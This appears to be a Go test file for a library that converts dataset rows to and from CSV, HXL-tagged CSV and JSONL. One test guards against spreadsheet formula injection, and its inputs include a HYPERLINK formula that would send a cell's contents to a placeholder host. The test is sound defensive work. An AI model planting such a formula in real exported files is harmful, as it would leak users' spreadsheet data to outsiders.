package rowfile_test

import (
	"bytes"
	"encoding/csv"
	"errors"
	"fmt"
	"io"
	"math"
	"regexp"
	"slices"
	"strings"
	"testing"

	exchangev1 "github.com/alltogether/exchange/proto/alltogether/exchange/v1"
	"github.com/alltogether/exchange/rowfile"
	"google.golang.org/protobuf/proto"
	"google.golang.org/protobuf/types/known/timestamppb"
)

// testDataset has two categories and one measure of every type; two
// measures carry their own hashtags, one of them without the "#".
func testDataset() *exchangev1.Dataset {
	return &exchangev1.Dataset{
		Name:       "agencies/ilo/datasets/returns",
		Title:      "Returned victims",
		PeriodType: exchangev1.PeriodType_PERIOD_TYPE_MONTH,
		Schema: &exchangev1.DatasetSchema{
			LocationLevel: exchangev1.AdminLevel_ADMIN_LEVEL_PROVINCE,
			Categories: []*exchangev1.Category{
				{Key: "sex", Values: []string{"female", "male"}, Required: true},
				{Key: "age_group", Values: []string{"child", "adult"}},
			},
			Measures: []*exchangev1.Measure{
				{Key: "cases", Type: exchangev1.MeasureType_MEASURE_TYPE_INTEGER, Hxl: "#affected+victims"},
				{Key: "share", Type: exchangev1.MeasureType_MEASURE_TYPE_DECIMAL},
				{Key: "notes", Type: exchangev1.MeasureType_MEASURE_TYPE_TEXT},
				{Key: "first_seen", Type: exchangev1.MeasureType_MEASURE_TYPE_DATE},
				{Key: "referred", Type: exchangev1.MeasureType_MEASURE_TYPE_BOOLEAN},
				{Key: "route", Type: exchangev1.MeasureType_MEASURE_TYPE_CODE, Codes: []string{"land", "sea", "air"}, Hxl: "indicator+route"},
			},
		},
	}
}

func intV(n int64) *exchangev1.Value {
	return &exchangev1.Value{Kind: &exchangev1.Value_IntValue{IntValue: n}}
}
func decV(x float64) *exchangev1.Value {
	return &exchangev1.Value{Kind: &exchangev1.Value_DecimalValue{DecimalValue: x}}
}
func textV(s string) *exchangev1.Value {
	return &exchangev1.Value{Kind: &exchangev1.Value_TextValue{TextValue: s}}
}
func dateV(y, m, d int32) *exchangev1.Value {
	return &exchangev1.Value{Kind: &exchangev1.Value_DateValue{DateValue: &exchangev1.CalendarDate{Year: y, Month: m, Day: d}}}
}
func boolV(b bool) *exchangev1.Value {
	return &exchangev1.Value{Kind: &exchangev1.Value_BoolValue{BoolValue: b}}
}
func codeV(s string) *exchangev1.Value {
	return &exchangev1.Value{Kind: &exchangev1.Value_CodeValue{CodeValue: s}}
}

// testRows cover every measure type, both categories, absent values and
// categories, extreme numbers, and text that needs quoting.
func testRows() []*exchangev1.Row {
	return []*exchangev1.Row{
		{
			Contributor: "agencies/unodc", Period: "2026-03", Location: "KH-12",
			Categories: map[string]string{"sex": "female", "age_group": "child"},
			Values: map[string]*exchangev1.Value{
				"cases": intV(4), "share": decV(0.1), "notes": textV("plain"),
				"first_seen": dateV(2026, 3, 9), "referred": boolV(true), "route": codeV("land"),
			},
			Revision: 17, UpdateTime: timestamppb.New(timestamppb.Now().AsTime().Truncate(1e3)),
		},
		{
			Contributor: "agencies/unodc", Period: "2026-03", Location: "KH-13",
			Categories: map[string]string{"sex": "male"},
			Values:     map[string]*exchangev1.Value{"cases": intV(0)},
		},
		{
			Period: "2026-04", Location: "KH-1",
			Categories: map[string]string{"sex": "female"},
			Values: map[string]*exchangev1.Value{
				"cases": intV(math.MinInt64), "share": decV(1.0 / 3), "notes": textV("Phnom Penh, \"centre\"\nsecond line — ភ្នំពេញ"),
				"first_seen": dateV(1900, 1, 1), "referred": boolV(false), "route": codeV("sea"),
			},
		},
		{
			Period: "2026-05", Location: "KH-2",
			Categories: map[string]string{"sex": "male", "age_group": "adult"},
			Values: map[string]*exchangev1.Value{
				"cases": intV(math.MaxInt64), "share": decV(math.MaxFloat64), "notes": textV("  padded, kept  "),
				"first_seen": dateV(2024, 2, 29), "route": codeV("air"),
			},
		},
		{
			Period: "2026-06", Location: "KH-3",
			Categories: map[string]string{"sex": "female"},
			Values:     map[string]*exchangev1.Value{"share": decV(5e-324), "notes": textV("a;b\tc\r\"")},
		},
		{
			Period: "2026-07", Location: "KH-4",
			Categories: map[string]string{"sex": "female"},
			Values:     map[string]*exchangev1.Value{"share": decV(-2.5e-8), "notes": textV("=1+2")},
		},
	}
}

// keyAndValues keeps what a CSV file carries back to the server: the key
// fields, the values and the deleted flag.
func keyAndValues(r *exchangev1.Row) *exchangev1.Row {
	return &exchangev1.Row{
		Period: r.GetPeriod(), Location: r.GetLocation(), Categories: r.GetCategories(),
		Values: r.GetValues(), Deleted: r.GetDeleted(),
	}
}

// readAll reads every row, failing the test on any error.
func readAll(t *testing.T, r *rowfile.Reader) []*exchangev1.Row {
	t.Helper()
	var rows []*exchangev1.Row
	for {
		row, err := r.Read()
		if err == io.EOF {
			return rows
		}
		if err != nil {
			t.Fatalf("Read: %v", err)
		}
		rows = append(rows, row)
	}
}

func TestRoundTrip(t *testing.T) {
	d := testDataset()
	for _, tc := range []struct {
		name  string
		write func(io.Writer) (*rowfile.Writer, error)
		read  func(io.Reader) (*rowfile.Reader, error)
		keep  func(*exchangev1.Row) *exchangev1.Row // what comes back
	}{
		{
			name:  "csv",
			write: func(w io.Writer) (*rowfile.Writer, error) { return rowfile.NewCSVWriter(w, d, rowfile.CSVOptions{}) },
			read:  func(r io.Reader) (*rowfile.Reader, error) { return rowfile.NewCSVReader(r, d) },
			keep:  keyAndValues,
		},
		{
			name: "csv+hxl",
			write: func(w io.Writer) (*rowfile.Writer, error) {
				return rowfile.NewCSVWriter(w, d, rowfile.CSVOptions{HXL: true})
			},
			read: func(r io.Reader) (*rowfile.Reader, error) { return rowfile.NewCSVReader(r, d) },
			keep: keyAndValues,
		},
		{
			name: "csv+hxl+tombstones",
			write: func(w io.Writer) (*rowfile.Writer, error) {
				return rowfile.NewCSVWriter(w, d, rowfile.CSVOptions{HXL: true, Tombstones: true})
			},
			read: func(r io.Reader) (*rowfile.Reader, error) { return rowfile.NewCSVReader(r, d) },
			keep: keyAndValues,
		},
		{
			name:  "jsonl",
			write: func(w io.Writer) (*rowfile.Writer, error) { return rowfile.NewJSONLWriter(w), nil },
			read:  func(r io.Reader) (*rowfile.Reader, error) { return rowfile.NewJSONLReader(r), nil },
			keep:  func(r *exchangev1.Row) *exchangev1.Row { return r }, // every field
		},
	} {
		t.Run(tc.name, func(t *testing.T) {
			rows := testRows()
			var buf bytes.Buffer
			w, err := tc.write(&buf)
			if err != nil {
				t.Fatal(err)
			}
			for _, row := range rows {
				if err := w.Write(row); err != nil {
					t.Fatalf("Write: %v", err)
				}
			}
			if err := w.Flush(); err != nil {
				t.Fatal(err)
			}
			r, err := tc.read(&buf)
			if err != nil {
				t.Fatal(err)
			}
			got := readAll(t, r)
			if len(got) != len(rows) {
				t.Fatalf("read %d rows, wrote %d", len(got), len(rows))
			}
			for i := range rows {
				if want := tc.keep(rows[i]); !proto.Equal(got[i], want) {
					t.Errorf("row %d:\n got %v\nwant %v", i, got[i], want)
				}
			}
		})
	}
}

func TestCSVCells(t *testing.T) {
	header := []string{"period", "location", "contributor", "sex", "age_group", "cases", "share", "notes", "first_seen", "referred", "route"}
	hxl := []string{"#date+period", "#adm1+code", "#org+code", "#x_sex", "#x_age_group", "#affected+victims", "#x_share", "#x_notes", "#x_first_seen", "#x_referred", "#indicator+route"}
	data := [][]string{
		{"2026-03", "KH-12", "agencies/unodc", "female", "child", "4", "0.1", "plain", "2026-03-09", "true", "land"},
		{"2026-03", "KH-13", "agencies/unodc", "male", "", "0", "", "", "", "", ""},
		{"2026-04", "KH-1", "", "female", "", "-9223372036854775808", "0.3333333333333333", "Phnom Penh, \"centre\"\nsecond line — ភ្នំពេញ", "1900-01-01", "false", "sea"},
		{"2026-05", "KH-2", "", "male", "adult", "9223372036854775807", "1.7976931348623157e+308", "  padded, kept  ", "2024-02-29", "", "air"},
		{"2026-06", "KH-3", "", "female", "", "", "5e-324", "a;b\tc\r\"", "", "", ""},
		{"2026-07", "KH-4", "", "female", "", "", "-2.5e-08", "'=1+2", "", "", ""},
	}
	// RawText writes the text that starts like a formula as it is.
	raw := slices.Clone(data)
	raw[5] = slices.Clone(raw[5])
	raw[5][7] = "=1+2"
	for _, tc := range []struct {
		name string
		opts rowfile.CSVOptions
		want [][]string
	}{
		{"plain", rowfile.CSVOptions{}, append([][]string{header}, data...)},
		{"hxl", rowfile.CSVOptions{HXL: true}, append([][]string{header, hxl}, data...)},
		{"raw text", rowfile.CSVOptions{RawText: true}, append([][]string{header}, raw...)},
	} {
		t.Run(tc.name, func(t *testing.T) {
			var buf bytes.Buffer
			w, err := rowfile.NewCSVWriter(&buf, testDataset(), tc.opts)
			if err != nil {
				t.Fatal(err)
			}
			for _, row := range testRows() {
				if err := w.Write(row); err != nil {
					t.Fatal(err)
				}
			}
			if err := w.Flush(); err != nil {
				t.Fatal(err)
			}
			out := buf.String()
			// Quoting: the comma, quotes and line break of the text stay
			// in one cell.
			if !strings.Contains(out, "\"Phnom Penh, \"\"centre\"\"\nsecond line") {
				t.Errorf("text with comma, quotes and newline not quoted as CSV:\n%s", out)
			}
			got, err := csv.NewReader(strings.NewReader(out)).ReadAll()
			if err != nil {
				t.Fatalf("encoding/csv cannot read the output: %v\n%s", err, out)
			}
			if len(got) != len(tc.want) {
				t.Fatalf("%d records, want %d (one header, optional hashtags, one per row):\n%s", len(got), len(tc.want), out)
			}
			for i := range tc.want {
				if !equalStrings(got[i], tc.want[i]) {
					t.Errorf("record %d:\n got %q\nwant %q", i, got[i], tc.want[i])
				}
			}
		})
	}
}

// TestCSVGuardsFormulas checks that text, code and category cells a
// spreadsheet would run as formulas are written with an apostrophe in
// front, that nothing else is, and that reading gives back exactly what
// was written, apostrophes of the text itself included.
func TestCSVGuardsFormulas(t *testing.T) {
	texts := map[string]string{ // text → its cell
		"=HYPERLINK(\"http://x.example/?\"&A1)": "'=HYPERLINK(\"http://x.example/?\"&A1)",
		"+1":                                    "'+1", "-x": "'-x", "@SUM(A1)": "'@SUM(A1)", "\tx": "'\tx", "\rx": "'\rx",
		"'quoted": "''quoted", "'=x": "''=x", "'": "''", "''": "'''",
		"plain": "plain", "a=b": "a=b", " =1": " =1", "x'": "x'",
	}
	for text, wantCell := range texts {
		row := &exchangev1.Row{
			Period: "2026-07", Location: "KH-4",
			Categories: map[string]string{"sex": text},
			Values:     map[string]*exchangev1.Value{"notes": textV(text), "route": codeV(text), "cases": intV(-7)},
		}
		var buf bytes.Buffer
		w, err := rowfile.NewCSVWriter(&buf, testDataset(), rowfile.CSVOptions{})
		if err != nil {
			t.Fatal(err)
		}
		if err := w.Write(row); err != nil {
			t.Fatal(err)
		}
		if err := w.Flush(); err != nil {
			t.Fatal(err)
		}
		recs, err := csv.NewReader(strings.NewReader(buf.String())).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		cells := map[string]string{}
		for i, h := range recs[0] {
			cells[h] = recs[1][i]
		}
		if cells["notes"] != wantCell || cells["sex"] != wantCell || cells["route"] != wantCell {
			t.Errorf("%q written as notes %q, sex %q, route %q; want %q", text, cells["notes"], cells["sex"], cells["route"], wantCell)
		}
		if cells["cases"] != "-7" {
			t.Errorf("a negative integer was written as %q, want -7", cells["cases"])
		}
		r, err := rowfile.NewCSVReader(strings.NewReader(buf.String()), testDataset())
		if err != nil {
			t.Fatal(err)
		}
		got := readAll(t, r)
		if len(got) != 1 || got[0].GetValues()["notes"].GetTextValue() != text {
			t.Fatalf("%q read back as %v", text, got)
		}
		// Categories and codes are trimmed of surrounding spaces on import.
		if trimmed := strings.TrimSpace(text); text == trimmed &&
			(got[0].GetCategories()["sex"] != text || got[0].GetValues()["route"].GetCodeValue() != text) {
			t.Errorf("%q read back as category %q, code %q", text, got[0].GetCategories()["sex"], got[0].GetValues()["route"].GetCodeValue())
		}
	}
}

func equalStrings(a, b []string) bool {
	if len(a) != len(b) {
		return false
	}
	for i := range a {
		if a[i] != b[i] {
			return false
		}
	}
	return true
}

// hxlTag is HXL's hashtag syntax (tagging conventions 1.1; libhxl's
// TOKEN_PATTERN): "#" and a token, then "+" and a token, any number of
// times, a token being a letter and then letters, digits or underscores.
var hxlTag = regexp.MustCompile(`^#[A-Za-z][_0-9A-Za-z]*(\s*\+[A-Za-z][_0-9A-Za-z]*)*$`)

func TestHXLRow(t *testing.T) {
	for _, tc := range []struct {
		name        string
		level       exchangev1.AdminLevel
		locationHXL string
		catHXL      string
		key         string
		want        []string // period, location, contributor, category, measure, deleted
	}{
		{"province default", exchangev1.AdminLevel_ADMIN_LEVEL_PROVINCE, "", "", "sex",
			[]string{"#date+period", "#adm1+code", "#org+code", "#x_sex", "#x_cases", "#x_deleted"}},
		{"country default", exchangev1.AdminLevel_ADMIN_LEVEL_COUNTRY, "", "", "sex",
			[]string{"#date+period", "#country+code", "#org+code", "#x_sex", "#x_cases", "#x_deleted"}},
		{"district default", exchangev1.AdminLevel_ADMIN_LEVEL_DISTRICT, "", "", "sex",
			[]string{"#date+period", "#adm2+code", "#org+code", "#x_sex", "#x_cases", "#x_deleted"}},
		{"schema hashtags", exchangev1.AdminLevel_ADMIN_LEVEL_PROVINCE, "#adm1+code+iso", "  #x_sex+reported ", "sex",
			[]string{"#date+period", "#adm1+code+iso", "#org+code", "#x_sex+reported", "#x_cases", "#x_deleted"}},
		{"hashtag without #", exchangev1.AdminLevel_ADMIN_LEVEL_PROVINCE, "adm1 +code", "", "sex",
			[]string{"#date+period", "#adm1 +code", "#org+code", "#x_sex", "#x_cases", "#x_deleted"}},
		{"unsafe key made hashtag-safe", exchangev1.AdminLevel_ADMIN_LEVEL_PROVINCE, "", "", "Age-Group.2",
			[]string{"#date+period", "#adm1+code", "#org+code", "#x_age_group_2", "#x_cases", "#x_deleted"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			d := &exchangev1.Dataset{Schema: &exchangev1.DatasetSchema{
				LocationLevel: tc.level, LocationHxl: tc.locationHXL,
				Categories: []*exchangev1.Category{{Key: tc.key, Hxl: tc.catHXL, Values: []string{"x"}}},
				Measures:   []*exchangev1.Measure{{Key: "cases", Type: exchangev1.MeasureType_MEASURE_TYPE_INTEGER}},
			}}
			var buf bytes.Buffer
			w, err := rowfile.NewCSVWriter(&buf, d, rowfile.CSVOptions{HXL: true, Tombstones: true})
			if err != nil {
				t.Fatal(err)
			}
			if err := w.Flush(); err != nil {
				t.Fatal(err)
			}
			recs, err := csv.NewReader(&buf).ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			if len(recs) != 2 {
				t.Fatalf("%d records, want header and hashtags", len(recs))
			}
			if !equalStrings(recs[1], tc.want) {
				t.Errorf("hashtags %q, want %q", recs[1], tc.want)
			}
			for _, tag := range recs[1] {
				if !hxlTag.MatchString(tag) {
					t.Errorf("%q is not a valid HXL hashtag", tag)
				}
			}
		})
	}
}

func TestInvalidSchemaHashtag(t *testing.T) {
	d := testDataset()
	d.Schema.Measures[1].Hxl = "#share of total"
	if _, err := rowfile.NewCSVWriter(io.Discard, d, rowfile.CSVOptions{HXL: true}); err == nil || !strings.Contains(err.Error(), "share") {
		t.Errorf("invalid hashtag with HXL: err = %v, want an error naming column share", err)
	}
	if _, err := rowfile.NewCSVWriter(io.Discard, d, rowfile.CSVOptions{}); err != nil {
		t.Errorf("invalid hashtag without HXL: %v", err)
	}
}

func TestReadTolerates(t *testing.T) {
	d := testDataset()
	want := []*exchangev1.Row{
		{Period: "2026-03", Location: "KH-12", Categories: map[string]string{"sex": "female"},
			Values: map[string]*exchangev1.Value{"cases": intV(4), "notes": textV("hello, world"), "referred": boolV(true)}},
		{Period: "2026-03", Location: "KH-13", Categories: map[string]string{"sex": "male"},
			Values: map[string]*exchangev1.Value{"referred": boolV(false)}},
	}
	for _, tc := range []struct {
		name string
		file string
	}{
		{"reordered columns, BOM, HXL row (an untagged column matched by header), contributor ignored",
			"\ufeffLocation,Cases,period,Contributor,sex,notes,referred\n" +
				"#adm1+code,#Affected +Victims,#date+period,#org+code,#x_sex,,#x_referred\n" +
				"KH-12,4,2026-03,agencies/other,female,\"hello, world\",TRUE\n" +
				"KH-13,,2026-03,,male,,no\n"},
		{"BOM before a quoted header, CRLF",
			"\ufeff\"sex\",\"period\",\"location\",\"referred\",\"cases\",\"notes\"\r\n" +
				"female,2026-03,KH-12,1,4,\"hello, world\"\r\n" +
				"male,2026-03,KH-13,False,,\r\n"},
		{"spaces, blank rows, empty trailing columns, short rows",
			"period , location,sex,cases,notes,referred,,\n" +
				"2026-03, KH-12 ,female, 4 ,\"hello, world\",Yes,,\n" +
				",,,,,,,\n" +
				"\n" +
				"2026-03,KH-13,male,,,0\n"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			r, err := rowfile.NewCSVReader(strings.NewReader(tc.file), d)
			if err != nil {
				t.Fatal(err)
			}
			got := readAll(t, r)
			if len(got) != len(want) {
				t.Fatalf("read %d rows, want %d: %v", len(got), len(want), got)
			}
			for i := range want {
				if !proto.Equal(got[i], want[i]) {
					t.Errorf("row %d:\n got %v\nwant %v", i, got[i], want[i])
				}
			}
		})
	}
}

// result is one outcome of Read: a row's location, or a line error.
type result struct {
	location string
	line     int
	column   string
	msg      string // start of the error
	contains string // and some text in it
}

func collect(t *testing.T, r *rowfile.Reader) []result {
	t.Helper()
	var out []result
	for {
		row, err := r.Read()
		if err == io.EOF {
			return out
		}
		var le *rowfile.LineError
		switch {
		case errors.As(err, &le):
			out = append(out, result{line: le.Line, column: le.Column, msg: le.Error()})
		case err != nil:
			t.Fatalf("fatal error: %v", err)
		default:
			out = append(out, result{location: row.GetLocation()})
		}
		if len(out) > 100 {
			t.Fatal("reading does not end")
		}
	}
}

func TestBadLines(t *testing.T) {
	file := "period,location,sex,cases,share,notes,first_seen,referred,deleted\n" + // 1
		"2026-01,KH-1,female,1,,,,,\n" + // 2
		"2026-01,KH-2,female,4.5,,,,,\n" + // 3
		"2026-01,KH-3,female,2,abc,,,,\n" + // 4
		"2026-01,KH-4,female,2,,\"two\nlines\",2026-02-30,,\n" + // 5-6
		"2026-01,KH-5,female,2,,,,maybe,\n" + // 7
		",KH-6,female,2,,,,,\n" + // 8
		"2026-01,KH-7,female,2,,,,,,surplus\n" + // 9
		"2026-01,KH-8,female,3,,a \"bare\" quote,,,\n" + // 10
		"2026-01,KH-9,female,99999999999999999999,,,,,\n" + // 11
		"2026-01,KH-10,female,1,NaN,,,,\n" + // 12
		"2026-01,KH-11,female,1,,,,,gone\n" + // 13
		"2026-01,,female,1,,,,,\n" + // 14
		"2026-01,KH-12,male,5,,,,yes,\n" // 15
	want := []result{
		{location: "KH-1"},
		{line: 3, column: "cases", msg: `line 3, column cases: "4.5" is not an integer`},
		{line: 4, column: "share", msg: `line 4, column share: "abc" is not a decimal number`},
		{line: 5, column: "first_seen", msg: `line 5, column first_seen: "2026-02-30" is not a date (YYYY-MM-DD)`},
		{line: 7, column: "referred", msg: `line 7, column referred: "maybe" is not a boolean`},
		{line: 8, column: "period", msg: `line 8, column period: required`},
		{line: 9, column: "", msg: `line 9: 10 cells, but the header has 9 columns`},
		{line: 10, column: "", msg: `line 10: malformed CSV`},
		{line: 11, column: "cases", msg: `line 11, column cases: "99999999999999999999" is out of range`},
		{line: 12, column: "share", msg: `line 12, column share: "NaN" is not a decimal number`},
		{line: 13, column: "deleted", msg: `line 13, column deleted: "gone" is not a boolean`},
		{line: 14, column: "location", msg: `line 14, column location: required`},
		{location: "KH-12"},
	}
	r, err := rowfile.NewCSVReader(strings.NewReader(file), testDataset())
	if err != nil {
		t.Fatal(err)
	}
	got := collect(t, r)
	if len(got) != len(want) {
		t.Fatalf("got %d results, want %d:\n%+v", len(got), len(want), got)
	}
	for i := range want {
		g, w := got[i], want[i]
		if g.location != w.location || g.line != w.line || g.column != w.column || !strings.HasPrefix(g.msg, w.msg) {
			t.Errorf("result %d: got %+v, want %+v", i, g, w)
		}
	}
	// After the end, Read keeps saying so.
	if _, err := r.Read(); err != io.EOF {
		t.Errorf("Read after the end = %v, want io.EOF", err)
	}
}

func TestLineErrorUnwraps(t *testing.T) {
	r, err := rowfile.NewCSVReader(strings.NewReader("period,location,sex,cases\n2026-01,KH-1,female,x\n"), testDataset())
	if err != nil {
		t.Fatal(err)
	}
	_, err = r.Read()
	var le *rowfile.LineError
	if !errors.As(err, &le) || le.Err == nil || errors.Unwrap(err) != le.Err {
		t.Fatalf("err = %#v, want a *LineError that unwraps to its cause", err)
	}
}

func TestHeaderErrors(t *testing.T) {
	for _, tc := range []struct {
		name, file, column, msg string
	}{
		{"unknown column", "period,location,sex,cases,victims\n", "victims", "line 1, column victims: unknown column"},
		{"unknown column keeps its spelling", "period,location,sex,Foo Bar\n", "Foo Bar", "line 1, column Foo Bar: unknown column"},
		{"repeated column", "period,location,sex,cases,CASES\n", "cases", "line 1, column cases: repeated column"},
		{"missing period", "location,sex,cases\n", "period", "line 1, column period: missing column"},
		{"missing location", "period,sex,cases\n", "location", "line 1, column location: missing column"},
		{"missing required category", "period,location,cases\n", "sex", "line 1, column sex: missing column"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			_, err := rowfile.NewCSVReader(strings.NewReader(tc.file+"2026-01,KH-1,female,1\n"), testDataset())
			var le *rowfile.LineError
			if !errors.As(err, &le) {
				t.Fatalf("err = %v, want a *LineError", err)
			}
			if le.Line != 1 || le.Column != tc.column || !strings.HasPrefix(le.Error(), tc.msg) {
				t.Errorf("err = %q (line %d, column %q), want %q", le, le.Line, le.Column, tc.msg)
			}
		})
	}
	if _, err := rowfile.NewCSVReader(strings.NewReader(""), testDataset()); err == nil {
		t.Error("empty file: no error")
	}
	// Optional columns may be left out.
	if _, err := rowfile.NewCSVReader(strings.NewReader("period,location,sex\n"), testDataset()); err != nil {
		t.Errorf("optional columns left out: %v", err)
	}
}

func TestTombstones(t *testing.T) {
	rows := []*exchangev1.Row{
		{Period: "2026-03", Location: "KH-12", Categories: map[string]string{"sex": "female"}, Values: map[string]*exchangev1.Value{"cases": intV(3)}},
		{Period: "2026-03", Location: "KH-13", Categories: map[string]string{"sex": "male"}, Deleted: true},
	}
	for _, tc := range []struct {
		name       string
		tombstones bool
		want       [][]string // period, location, last column
		header     string     // last header cell
	}{
		{"with tombstones", true, [][]string{{"2026-03", "KH-12", "false"}, {"2026-03", "KH-13", "true"}}, "deleted"},
		{"without tombstones", false, [][]string{{"2026-03", "KH-12", ""}}, "route"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			var buf bytes.Buffer
			w, err := rowfile.NewCSVWriter(&buf, testDataset(), rowfile.CSVOptions{Tombstones: tc.tombstones})
			if err != nil {
				t.Fatal(err)
			}
			for _, row := range rows {
				if err := w.Write(row); err != nil {
					t.Fatal(err)
				}
			}
			if err := w.Flush(); err != nil {
				t.Fatal(err)
			}
			recs, err := csv.NewReader(bytes.NewReader(buf.Bytes())).ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			if last := recs[0][len(recs[0])-1]; last != tc.header {
				t.Errorf("last header %q, want %q", last, tc.header)
			}
			if len(recs)-1 != len(tc.want) {
				t.Fatalf("%d data records, want %d:\n%s", len(recs)-1, len(tc.want), buf.String())
			}
			for i, w := range tc.want {
				rec := recs[i+1]
				if rec[0] != w[0] || rec[1] != w[1] || rec[len(rec)-1] != w[2] {
					t.Errorf("record %d = %q, want period, location, last = %q", i+1, rec, w)
				}
			}
			r, err := rowfile.NewCSVReader(&buf, testDataset())
			if err != nil {
				t.Fatal(err)
			}
			got := readAll(t, r)
			for i := range got {
				if !proto.Equal(got[i], rows[i]) {
					t.Errorf("read back row %d:\n got %v\nwant %v", i, got[i], rows[i])
				}
			}
		})
	}
}

func TestWriteErrors(t *testing.T) {
	for _, tc := range []struct {
		name string
		row  *exchangev1.Row
		msg  string
	}{
		{"unknown category", &exchangev1.Row{Period: "2026-01", Location: "KH-1", Categories: map[string]string{"region": "x"}}, `category "region"`},
		{"unknown measure", &exchangev1.Row{Period: "2026-01", Location: "KH-1", Values: map[string]*exchangev1.Value{"victims": intV(1)}}, `measure "victims"`},
		{"type mismatch", &exchangev1.Row{Period: "2026-01", Location: "KH-1", Values: map[string]*exchangev1.Value{"cases": decV(1.5)}}, "column cases: the value is decimal, the measure is integer"},
		{"nil row", nil, "nil row"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			var buf bytes.Buffer
			w, err := rowfile.NewCSVWriter(&buf, testDataset(), rowfile.CSVOptions{})
			if err != nil {
				t.Fatal(err)
			}
			if err := w.Write(tc.row); err == nil || !strings.Contains(err.Error(), tc.msg) {
				t.Errorf("Write error = %v, want one containing %q", err, tc.msg)
			}
			if err := w.Flush(); err != nil {
				t.Fatal(err)
			}
			if n := strings.Count(buf.String(), "\n"); n != 1 {
				t.Errorf("%d lines written, want only the header:\n%s", n, buf.String())
			}
		})
	}
}

func TestSchemaClashes(t *testing.T) {
	for _, key := range []string{"period", "location", "contributor", "deleted", "cases"} {
		d := testDataset()
		d.Schema.Categories = append(d.Schema.Categories, &exchangev1.Category{Key: key, Values: []string{"x"}})
		if _, err := rowfile.NewCSVWriter(io.Discard, d, rowfile.CSVOptions{}); err == nil {
			t.Errorf("category %q: NewCSVWriter accepted the clash", key)
		}
		if _, err := rowfile.NewCSVReader(strings.NewReader("period,location,sex\n"), d); err == nil {
			t.Errorf("category %q: NewCSVReader accepted the clash", key)
		}
	}
	if _, err := rowfile.NewCSVWriter(io.Discard, &exchangev1.Dataset{}, rowfile.CSVOptions{}); err == nil {
		t.Error("dataset without schema accepted")
	}
}

func TestJSONL(t *testing.T) {
	row := &exchangev1.Row{
		Contributor: "agencies/unodc", Period: "2026-03", Location: "KH-12",
		Categories: map[string]string{"sex": "female", "age_group": "child"},
		Values:     map[string]*exchangev1.Value{"share": decV(0.5), "cases": intV(4), "first_seen": dateV(2026, 3, 9)},
		Revision:   7,
	}
	const want = `{"contributor":"agencies/unodc","period":"2026-03","location":"KH-12",` +
		`"categories":{"age_group":"child","sex":"female"},` +
		`"values":{"cases":{"intValue":"4"},"first_seen":{"dateValue":{"year":2026,"month":3,"day":9}},"share":{"decimalValue":0.5}},` +
		`"revision":"7"}` + "\n"
	for i := range 5 { // protojson varies its spacing; the output must not
		var buf bytes.Buffer
		w := rowfile.NewJSONLWriter(&buf)
		if err := w.Write(row); err != nil {
			t.Fatal(err)
		}
		if err := w.Flush(); err != nil {
			t.Fatal(err)
		}
		if buf.String() != want {
			t.Fatalf("try %d:\n got %s\nwant %s", i, buf.String(), want)
		}
	}

	t.Run("bad lines", func(t *testing.T) {
		file := "\ufeff" + `{"period":"2026-01","location":"KH-1"}` + "\n" + // 1
			"\n" + // 2
			`{"period":"2026-01","location":` + "\n" + // 3
			`{"period":"2026-01","location":"KH-2","colour":"red"}` + "\r\n" + // 4
			`   ` + "\n" + // 5
			`{"period":"2026-01","location":"KH-3","values":{"cases":{"intValue":"x"}}}` + "\n" + // 6
			`{"period":"2026-01","location":"KH-4"}` // 7, no line end
		want := []result{
			{location: "KH-1"},
			{line: 3, msg: "line 3: unexpected EOF"},
			{line: 4, msg: "line 4: at byte ", contains: `unknown field "colour"`},
			{line: 6, msg: "line 6: at byte ", contains: `invalid value for int64 field intValue: "x"`},
			{location: "KH-4"},
		}
		got := collect(t, rowfile.NewJSONLReader(strings.NewReader(file)))
		if len(got) != len(want) {
			t.Fatalf("got %+v, want %+v", got, want)
		}
		for i := range want {
			g, w := got[i], want[i]
			if g.location != w.location || g.line != w.line || !strings.HasPrefix(g.msg, w.msg) || !strings.Contains(g.msg, w.contains) {
				t.Errorf("result %d: got %+v, want %+v", i, g, w)
			}
		}
	})

	t.Run("too long line", func(t *testing.T) {
		long := `{"period":"2026-01","location":"KH-1","values":{"notes":{"textValue":"` + strings.Repeat("x", rowfile.MaxJSONLine) + `"}}}`
		file := long + "\n" + `{"period":"2026-01","location":"KH-2"}` + "\n"
		got := collect(t, rowfile.NewJSONLReader(strings.NewReader(file)))
		want := []result{{line: 1, msg: "line 1: longer than"}, {location: "KH-2"}}
		if len(got) != 2 || got[0].line != 1 || !strings.HasPrefix(got[0].msg, want[0].msg) || got[1].location != "KH-2" {
			t.Errorf("got %+v, want %+v", got, want)
		}
	})
}

// errWriter fails every write.
type errWriter struct{}

func (errWriter) Write([]byte) (int, error) { return 0, errors.New("disk full") }

func TestFlushReportsWriteErrors(t *testing.T) {
	for name, w := range map[string]*rowfile.Writer{
		"csv":   must(rowfile.NewCSVWriter(errWriter{}, testDataset(), rowfile.CSVOptions{})),
		"jsonl": rowfile.NewJSONLWriter(errWriter{}),
	} {
		_ = w.Write(testRows()[0])
		if err := w.Flush(); err == nil || !strings.Contains(err.Error(), "disk full") {
			t.Errorf("%s: Flush = %v, want the write error", name, err)
		}
	}
}

func must[T any](v T, err error) T {
	if err != nil {
		panic(err)
	}
	return v
}

func ExampleReader_Read() {
	file := "period,location,sex,cases\n" +
		"2026-03,KH-12,female,4\n" +
		"2026-03,KH-12,male,4.5\n" +
		"2026-03,KH-13,male,2\n"
	r, err := rowfile.NewCSVReader(strings.NewReader(file), testDataset())
	if err != nil {
		fmt.Println(err)
		return
	}
	for {
		row, err := r.Read()
		if err == io.EOF {
			break
		}
		var bad *rowfile.LineError
		if errors.As(err, &bad) {
			fmt.Println(bad)
			continue
		}
		if err != nil {
			fmt.Println(err)
			return
		}
		fmt.Println(row.GetLocation(), row.GetCategories()["sex"], row.GetValues()["cases"].GetIntValue())
	}
	// Output:
	// KH-12 female 4
	// line 3, column cases: "4.5" is not an integer
	// KH-13 male 2
}
